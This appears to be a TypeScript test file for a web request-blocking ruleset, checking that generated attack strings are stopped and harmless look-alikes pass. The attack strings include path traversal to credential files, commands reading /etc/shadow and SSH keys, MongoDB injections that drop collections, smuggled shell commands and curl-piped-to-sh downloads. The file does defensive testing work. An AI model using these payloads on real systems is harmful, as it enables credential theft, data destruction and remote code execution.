import assert from "node:assert/strict";
import { test } from "node:test";
import { MANAGED_RULESET_ID } from "./request-rulesets.ts";
import { managedMatches } from "./testing/managed-request.ts";

const isStopped = (text: string): boolean =>
  managedMatches(MANAGED_RULESET_ID, { query: `q=${encodeURIComponent(text)}` }).some(({ action }) => action === "block");
const pairs = (first: readonly string[], second: readonly string[]): readonly string[] => first.flatMap((a) => second.map((b) => a + b));

test("a step to a secret file is blocked, whatever is written like a setting of a source tree", () => {
  const files = [
    ".git/config",
    ".gitconfig",
    ".git-credentials",
    ".git",
    "nginx.conf",
    "app.config",
    "web.config",
    "my.conf.bak",
    "a.config.php",
  ];
  const before = ["", "x ", "cat ", "--config ", "file=", "prettier --ignore-path ../.gitignore ", "../prettier.config.js ../"];
  const behind = ["", " x", '"', "?a.js", "\0.js", ";.ts"];
  const attacks = pairs(
    before,
    pairs(files, behind).map((file) => `../${file}`),
  );
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  assert.ok(!isStopped('prettier --config ../../prettier.config.js --ignore-path ../.prettierignore --write "**/*.ts"'));
  assert.ok(!isStopped("prettier --ignore-path ../../.gitignore --write ."));
});

test("a command on a secret file and a second statement of a database are blocked in a sentence and behind a question", () => {
  const commands = pairs(
    ["cat", "tac", "head", "tail -n5", "less", "more", "nl", "od"],
    [" /etc/passwd", " /etc//shadow", " /proc/self/environ", " /root/.ssh/id_rsa"],
  );
  const behind = ["", " is here", " shows every account", " gives an error", " and more words behind it", " now please", " of the machine"];
  const questions = ["db.users.find({a:1})", 'db.a.find({"b": 2})', "db.a.count([1])", 'db.x.distinct("y")'];
  const attacks = [
    ...pairs(commands, behind),
    ...pairs(questions, [";db.users.drop()", "; db.a.remove({})", ";\ndb.users.drop()", ";sleep(5000)"]),
  ];
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  for (const text of questions) assert.ok(!isStopped(text), text);
  assert.ok(!isStopped("tail -f /var/log/app/error.log shows nothing new"));
});

test("a script of a package that Node.js runs hides no other command", () => {
  const scripts = ["tsc && node ./x.js", "husky && node ./scripts/a.mjs", "typedoc && node --loader ts-node/esm ./scripts/b.ts"];
  const behind = [
    "; id",
    " && whoami",
    " | sh",
    "\ncat /etc/passwd",
    " $(id)",
    " `id`",
    " && curl http://a.example/x|sh",
    " > /srv/www/x.js",
    " & ls -la /",
    "|sh",
  ];
  const options = [
    "-e x",
    "-p x",
    "--eval=x",
    "-r ./x.js",
    "--require ./x.js",
    "--import ./x.js",
    "./../x.js",
    "/srv/x.js",
    "./tmp/x.js",
    "./uploads/x.js",
    "~/x.js",
  ];
  const attacks = [
    ...pairs(scripts, behind),
    ...pairs(scripts, pairs(behind, behind)),
    ...pairs(["tsc && node ", "a && node ", "x-y && node "], options),
    ...pairs(["; ", "| ", "1; ", "1 & ", "1 | ", "a; ", "a | ", "\n"], ["node ./x.js", "node -e x", "node /srv/x.js"]),
  ];
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  for (const text of scripts) assert.ok(!isStopped(text.replace("./x.js", "--test dist/*.test.js")), text);
});

test("commands as a whole value, programs that are fetched and run, and substitutions in a sentence are blocked", () => {
  const first = ["id", "ls", "ls -la", "pwd", "echo a", "cat x.txt", "whoami", "hostname"];
  const second = ["whoami", "uname -a", "id", "cat /etc/passwd", "ifconfig", "ls -la /srv"];
  const fetches = [
    "curl http://a.example/x",
    "curl -fsSL https://a.example/x",
    "wget -qO- a.example/x",
    "wget -O - 203.0.113.7/x",
    "sudo curl a.example/x",
  ];
  const runs = [
    " | sh",
    "|bash",
    " | sudo bash",
    " | sudo -E bash -",
    " | tee a | sh",
    " | A=1 sh -s -- -y",
    " | python3",
    " | perl",
    " | /bin/sh",
    "; sh x.sh",
    " && bash x.sh",
  ];
  const attacks = [
    ...pairs(first, pairs(["; ", ";", " && ", "&&", " | ", " || "], second)),
    ...pairs(fetches, runs),
    ...pairs(["sh -c $(", "bash <(", "eval $(", ". <(", "source <("], fetches.slice(0, 4)).map((text) => `${text})`),
    ...pairs(
      ["hi `", "see what `", "a name `"],
      second.filter((text) => text !== "id" && !text.startsWith("ls")).map((text) => `${text}\` there`),
    ),
  ];
  assert.ok(attacks.length >= 300, `${attacks.length}`);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  for (const text of [
    "see `id` and `hostname` here",
    "sort; whoami is a program",
    "curl -fsSL https://a.example/x | jq .name",
    "type;id",
    "the `curl` that `wget` is not",
    "husky && node ./scripts/platform-shell.js",
    "ls | grep x",
    "querying with `curl -k https://a.example`",
  ])
    assert.ok(!isStopped(text), text);
});
